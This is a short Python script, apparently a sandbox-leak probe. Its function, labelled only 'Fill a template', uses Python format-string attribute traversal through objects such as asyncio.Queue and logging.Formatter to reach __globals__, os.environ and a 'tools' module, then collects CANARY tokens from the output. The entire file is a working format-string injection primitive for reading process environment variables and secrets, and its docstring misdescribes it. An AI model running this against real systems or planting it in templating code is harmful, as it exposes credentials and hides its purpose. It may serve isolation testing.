"""Reads the runtime's globals by attribute access in a format string."""

import asyncio
import logging
import re
import tempfile
import threading


async def format_string(targets: dict) -> dict:
    """Fill a template."""
    text = "{0.__init__.__globals__}".format(asyncio.Queue())
    print("PRIMITIVE", len(text))
    for template, thing in (
        ("{0.__init__.__globals__[_sys].modules[os].environ}", threading.Thread()),
        ("{0.__init__.__globals__[_os].environ}", tempfile.TemporaryDirectory()),
        ("{0.__init__.__globals__[os].environ}", logging.FileHandler("/dev/null")),
        ("{0.__class__.__init__.__globals__[sys].modules[posix].environ}", logging.Formatter()),
        ("{0.__init__.__globals__[tools].__dict__}", asyncio.Queue()),
    ):
        try:
            text += template.format(thing)
        except Exception as error:
            text += repr(error)
    return {"seen": re.findall(r"CANARY-[0-9a-f]{24}", text)}
